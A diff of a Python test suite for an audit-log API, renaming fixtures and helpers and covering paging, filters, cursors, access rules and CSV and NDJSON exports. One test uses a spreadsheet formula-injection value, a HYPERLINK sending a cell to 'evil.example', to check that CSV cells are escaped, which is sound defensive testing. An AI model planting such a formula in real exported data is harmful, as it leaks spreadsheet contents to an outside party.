@@ -8,19 +8,15 @@ from typing import Any
 from urllib.parse import quote
 
 import pytest
-from core_app import Answer, Api, Rival, Tenant
+from support.core_client import Answer, Api
+from support.rival import Rival
+from support.tenant import Tenant, make_tenant
 
 from soundmark.core.features.audit_log import service
 from soundmark.kit.timestamps import format_timestamp
 
 PATH = "/v1/audit-log"
 LINES, CSV = "application/x-ndjson", "text/csv"
-
-
-@pytest.fixture
-async def tenant(api: Api) -> Tenant:
-    """An organisation with two audit entries: its creation and its project's."""
-    return await api.given_tenant()
 
 
 async def listed(tenant: Tenant, **params: Any) -> list[dict[str, Any]]:
@@ -34,7 +30,7 @@ async def download(tenant: Tenant, accept: str, **params: Any) -> Answer:
     return await tenant.api.get(PATH, params={**tenant.query, **params}, headers={"Accept": accept})
 
 
-async def given_entries(tenant: Tenant, rival: Rival, count: int, **columns: Any) -> None:
+async def make_entries(tenant: Tenant, rival: Rival, count: int, **columns: Any) -> None:
     """Entries as a later release, or another part of the service, could have written them; a second apart."""
     values = {
         "project_id": None,
@@ -59,7 +55,7 @@ async def given_entries(tenant: Tenant, rival: Rival, count: int, **columns: Any
 
 async def test_an_entry_says_who_did_what_when(api: Api) -> None:
     now = api.clock.freeze()
-    tenant = await api.given_tenant()
+    tenant = await make_tenant(api)
     entries = {entry["action"]: entry for entry in await listed(tenant)}
     assert set(entries) == {"organization.created", "project.created"}
     entry = entries["project.created"]
@@ -77,9 +73,9 @@ async def test_an_entry_says_who_did_what_when(api: Api) -> None:
 
 
 async def test_the_list_is_newest_first_and_of_one_organisation(tenant: Tenant) -> None:
-    await tenant.api.given_tenant()
+    await make_tenant(tenant.api)
     tenant.api.clock.advance(seconds=1)
-    await tenant.given_code()
+    await tenant.make_code()
     entries = await listed(tenant)
     assert entries[0]["action"] == "code.issued"
     assert len(entries) == 3
@@ -90,7 +86,7 @@ async def test_the_list_is_newest_first_and_of_one_organisation(tenant: Tenant) 
 
 async def test_pages_hold_every_entry_once(tenant: Tenant, rival: Rival) -> None:
     """Also where many were written in the same moment, and where more are written meanwhile."""
-    await given_entries(tenant, rival, 7)
+    await make_entries(tenant, rival, 7)
     await rival.run("UPDATE audit_entries SET created_at = %s", tenant.api.clock.now())
     everything = [entry["id"] for entry in await listed(tenant)]
     seen: list[str] = []
@@ -99,7 +95,7 @@ async def test_pages_hold_every_entry_once(tenant: Tenant, rival: Rival) -> None
         answer = await tenant.api.get(PATH, params={**tenant.query, **cursor, "limit": 2})
         seen += [entry["id"] for entry in answer.json["data"]]
         tenant.api.clock.advance(seconds=60)
-        await tenant.api.given_project(tenant.organization_id, f"Project {len(seen)}")
+        await tenant.api.make_project(tenant.organization_id, f"Project {len(seen)}")
         if answer.json["next_cursor"] is None:
             break
         cursor = {"cursor": answer.json["next_cursor"]}
@@ -114,7 +110,7 @@ async def test_a_page_has_1_to_100_entries(tenant: Tenant, limit: str) -> None:
 
 
 async def test_a_page_has_50_entries_unless_told(tenant: Tenant, rival: Rival) -> None:
-    await given_entries(tenant, rival, 101)
+    await make_entries(tenant, rival, 101)
     assert len(await listed(tenant)) == 50
     assert len(await listed(tenant, limit=100)) == 100
 
@@ -125,7 +121,7 @@ async def test_entries_of_one_action(tenant: Tenant) -> None:
 
 
 async def test_entries_of_one_actor(tenant: Tenant, rival: Rival) -> None:
-    await given_entries(tenant, rival, 2, actor_type="api_key", actor_id="key_1")
+    await make_entries(tenant, rival, 2, actor_type="api_key", actor_id="key_1")
     assert {entry["actor"]["id"] for entry in await listed(tenant, actor="key_1")} == {"key_1"}
     assert len(await listed(tenant, actor="operator")) == 2
     assert await listed(tenant, actor="KEY_1") == []
@@ -134,7 +130,7 @@ async def test_entries_of_one_actor(tenant: Tenant, rival: Rival) -> None:
 async def test_entries_from_a_moment_on_and_before_another(tenant: Tenant, rival: Rival) -> None:
     """A month's entries are those from its first moment on and before the next one's: none twice, none lost."""
     first_at = tenant.api.clock.now() + timedelta(hours=1)
-    await given_entries(tenant, rival, 4, first_at=first_at)
+    await make_entries(tenant, rival, 4, first_at=first_at)
     second, third = (format_timestamp(first_at + timedelta(seconds=number)) for number in (2, 3))
     assert [entry["created_at"] for entry in await listed(tenant, **{"from": second, "to": third})] == [second]
     assert len(await listed(tenant, **{"from": second})) == 3
@@ -143,7 +139,7 @@ async def test_entries_from_a_moment_on_and_before_another(tenant: Tenant, rival
 
 
 async def test_a_moment_may_have_any_offset(tenant: Tenant, rival: Rival) -> None:
-    await given_entries(tenant, rival, 1, first_at="2020-01-01T11:59:59Z")
+    await make_entries(tenant, rival, 1, first_at="2020-01-01T11:59:59Z")
     assert (
         len(await listed(tenant, **{"from": "2020-01-01T14:00:00+02:00", "to": "2020-01-01T07:00:00.001-05:00"})) == 1
     )
@@ -171,7 +167,7 @@ async def test_another_filter_is_refused(tenant: Tenant, params: dict[str, str])
 
 async def test_a_cursor_is_bound_to_its_question(tenant: Tenant, rival: Rival) -> None:
     """To the route, the organisation and every filter; the size of the page may change."""
-    await given_entries(tenant, rival, 5)
+    await make_entries(tenant, rival, 5)
     filters = {
         "action": "project.updated",
         "actor": "operator",
@@ -185,7 +181,7 @@ async def test_a_cursor_is_bound_to_its_question(tenant: Tenant, rival: Rival) -
     same_moment = {"from": "2020-01-01T01:00:00+01:00"}
     assert (await tenant.api.get(PATH, params={**question, **same_moment, **cursor})).status == 200
 
-    other = await tenant.api.given_tenant()
+    other = await make_tenant(tenant.api)
     changed = [{**question, name: value} for name, value in BOUND.items()]
     left_out = [{name: value for name, value in question.items() if name != left} for left in filters]
     for params in [{**question, **other.query}, *changed, *left_out]:
@@ -211,7 +207,7 @@ async def test_an_edited_cursor_is_refused(tenant: Tenant, cursor: str) -> None:
 
 async def test_a_server_key_reads_no_audit_log(tenant: Tenant) -> None:
     """Whatever its scopes say: it could learn who its makers are."""
-    key = (await tenant.api.post("/v1/api-keys", json=tenant.wanted_key(scopes=["codes:read", "codes:write"]))).json
+    key = (await tenant.api.post("/v1/api-keys", json=tenant.key_body(scopes=["codes:read", "codes:write"]))).json
     as_key = tenant.api.other(token=key["secret"])
     for path in (PATH, f"{PATH}/verification"):
         answer = await as_key.get(path, params=tenant.query)
@@ -258,7 +254,7 @@ async def test_a_stranger_is_told_nothing_in_any_form(tenant: Tenant, rival: Riv
 
 async def test_a_download_of_lines_holds_every_entry_as_it_is_listed(tenant: Tenant, rival: Rival) -> None:
     """More than any page, more than is read at once, in the same order and the same shape."""
-    await given_entries(tenant, rival, 1203)
+    await make_entries(tenant, rival, 1203)
     answer = await download(tenant, LINES, limit=1)
     lines = [json.loads(line) for line in answer.body.splitlines()]
     assert len(lines) == 1205
@@ -270,7 +266,7 @@ async def test_a_download_of_lines_holds_every_entry_as_it_is_listed(tenant: Ten
 
 
 async def test_a_download_as_csv_holds_every_entry(tenant: Tenant, rival: Rival) -> None:
-    await given_entries(tenant, rival, 1000, metadata='{"name":"Nacht, \\"spät\\"\\nund früh ☃"}')
+    await make_entries(tenant, rival, 1000, metadata='{"name":"Nacht, \\"spät\\"\\nund früh ☃"}')
     answer = await download(tenant, CSV)
     rows = list(csv.DictReader(io.StringIO(answer.body.decode(), newline="")))
     entries = await listed(tenant, limit=100)
@@ -296,7 +292,7 @@ async def test_a_download_as_csv_holds_every_entry(tenant: Tenant, rival: Rival)
 async def test_no_cell_of_a_csv_is_a_formula(tenant: Tenant, rival: Rival, begin: str) -> None:
     """A subject id comes from the identity provider, where people may have chosen it."""
     actor = f'{begin}HYPERLINK("https://evil.example/?"&A1,"x"),"y'
-    await given_entries(tenant, rival, 1, actor_id=actor)
+    await make_entries(tenant, rival, 1, actor_id=actor)
     answer = await download(tenant, CSV, actor=actor)
     (row,) = csv.DictReader(io.StringIO(answer.body.decode(), newline=""))
     assert row["actor_id"] == f"'{actor}"
@@ -305,7 +301,7 @@ async def test_no_cell_of_a_csv_is_a_formula(tenant: Tenant, rival: Rival, begin
 
 @pytest.mark.parametrize("accept", [LINES, CSV])
 async def test_the_filters_hold_for_downloads(tenant: Tenant, rival: Rival, accept: str) -> None:
-    await given_entries(tenant, rival, 3, actor_id="somebody")
+    await make_entries(tenant, rival, 3, actor_id="somebody")
     answer = await download(tenant, accept, actor="somebody")
     assert len(answer.body.splitlines()) == 3 + (accept == CSV)
     refused = await download(tenant, accept, action="project.exploded")
@@ -320,7 +316,7 @@ async def test_a_download_has_no_pages(tenant: Tenant) -> None:
 
 async def test_a_download_is_of_one_moment(tenant: Tenant, rival: Rival, monkeypatch: pytest.MonkeyPatch) -> None:
     """What is written or deleted while it is being read has no part in it."""
-    await given_entries(tenant, rival, 3)
+    await make_entries(tenant, rival, 3)
     monkeypatch.setattr("soundmark.core.features.audit_log.service._READ_AT_ONCE", 1)
     genuine = service.audit.list_newest_first
     asked = 0
@@ -330,7 +326,7 @@ async def test_a_download_is_of_one_moment(tenant: Tenant, rival: Rival, monkeyp
         asked += 1
         if asked == 3:
             await rival.run("DELETE FROM audit_entries")
-            await given_entries(tenant, rival, 9, first_at="2020-01-01T00:00:00Z")
+            await make_entries(tenant, rival, 9, first_at="2020-01-01T00:00:00Z")
         return await genuine(*arguments, **options)
 
     monkeypatch.setattr("soundmark.core.features.audit_log.service.audit.list_newest_first", list_newest_first)
